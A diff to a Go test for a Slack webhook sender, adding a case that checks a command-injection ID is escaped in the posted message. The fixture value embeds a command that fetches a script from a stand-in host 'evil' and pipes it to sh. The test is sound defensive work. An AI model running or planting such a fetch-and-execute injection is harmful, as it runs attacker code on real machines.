@@ -245,6 +245,14 @@ func TestAnIncomingWebhookOfSlackIsSentEscapedText(t *testing.T) {
 	if !strings.Contains(body.Text, "`whence confirm inc-1 deployment:v2`") {
 		t.Errorf("text %q", body.Text)
 	}
+	odd := opened()
+	odd.Ranking.ID = "`;curl evil|sh;`&*"
+	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), odd); err != nil {
+		t.Fatal(err)
+	}
+	if want := "`whence why $'\\140;curl evil|sh;\\140&amp;*'` tells the rest"; !strings.Contains(body.Text, want) {
+		t.Errorf("text %q", body.Text)
+	}
 	long := opened()
 	long.Ranking.Title = strings.Repeat("€", 10_000)
 	if _, err := (&post.Incoming{URL: url, Client: client()}).Send(t.Context(), long); err != nil {
